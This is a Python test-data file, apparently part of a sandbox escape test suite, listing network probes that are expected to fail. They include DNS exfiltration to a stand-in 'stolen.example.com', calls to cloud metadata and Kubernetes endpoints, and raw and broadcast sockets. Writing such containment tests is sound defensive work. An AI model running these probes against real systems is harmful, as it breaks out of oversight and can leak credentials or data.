"""Attempts to reach anything at all."""

from tests.escapes.attempt import Attempt, Category, Place

_UNREACHABLE = "ENETUNREACH|EHOSTUNREACH|ETIMEDOUT|EPERM|EACCES"
_NO_NETWORK = "a network namespace with nothing in it; in pods, a policy that denies all but what the world lists"

ATTEMPTS = [
    Attempt(
        "calls the internet",
        Category.NETWORK,
        "each(tcp, ['1.1.1.1:443', '192.0.2.1:80', '[2606:4700:4700::1111]:443'])",
        f"{_UNREACHABLE}|EADDRNOTAVAIL",
        _NO_NETWORK,
    ),
    Attempt(
        "asks name servers, to carry data out in names",
        Category.NETWORK,
        "os.environ['RES_OPTIONS'] = 'timeout:1 attempts:1'\n"
        "def resolve(name):\n"
        "    try: return socket.getaddrinfo(name, 443)\n"
        "    except socket.gaierror: raise RefusedError('no such name')\n"
        "each(lambda address: connect(socket.AF_INET, (address, 53), socket.SOCK_DGRAM), facts['name_servers'])\n"
        "attempt(lambda: resolve('stolen.example.com'))\n",
        f"{_UNREACHABLE}|ECONNREFUSED|no such name",
        f"{_NO_NETWORK}; not even DNS",
    ),
    Attempt(
        "asks the cloud's metadata service",
        Category.NETWORK,
        "each(tcp, ['169.254.169.254:80', '169.254.170.2:80', '100.100.100.200:80', '[fd00:ec2::254]:80'])",
        f"{_UNREACHABLE}|EADDRNOTAVAIL",
        _NO_NETWORK,
    ),
    Attempt(
        "calls the API server and the kubelet",
        Category.NETWORK,
        "each(tcp, [*facts['kubernetes'], *(os.environ[name] + ':443' for name in ['KUBERNETES_SERVICE_HOST']"
        " if name in os.environ)])",
        _UNREACHABLE,
        _NO_NETWORK,
    ),
    Attempt(
        "calls what listens on the machine's loopback",
        Category.NETWORK,
        "each(tcp, facts['loopback'])",
        f"ECONNREFUSED|{_UNREACHABLE}",
        "a loopback of its own",
        plain=False,
    ),
    Attempt(
        "calls abstract sockets, which have no files to guard them",
        Category.NETWORK,
        "each(lambda name: connect(socket.AF_UNIX, '\\0' + name), facts['abstract'])",
        "ECONNREFUSED",
        "a network namespace of its own",
        plain=False,
        places=frozenset({Place.LOCAL, Place.DAEMON, Place.POD}),
    ),
    Attempt(
        "calls engines, drivers, judges and the broker",
        Category.NETWORK,
        "each(tcp, facts['services'])",
        _UNREACHABLE,
        _NO_NETWORK,
        plain=False,
    ),
    Attempt(
        "sends packets of its own making, or listens to those of others",
        Category.NETWORK,
        "each(lambda one: socket.socket(*one), [(socket.AF_PACKET, socket.SOCK_RAW, 768),"
        " (socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_RAW, 255)])",
        "EPERM|EACCES",
        "no capability for raw sockets",
        plain=True,
    ),
    Attempt(
        "shouts to all on its network",
        Category.NETWORK,
        "def shout(address):\n"
        "    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:\n"
        "        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); one.settimeout(1)\n"
        "        one.sendto(b'anybody?', address)\n"
        "        return one.recv(100)\n"
        "each(shout, [('255.255.255.255', 67), ('224.0.0.251', 5353), ('239.255.255.250', 1900)])\n",
        _UNREACHABLE,
        _NO_NETWORK,
    ),
]
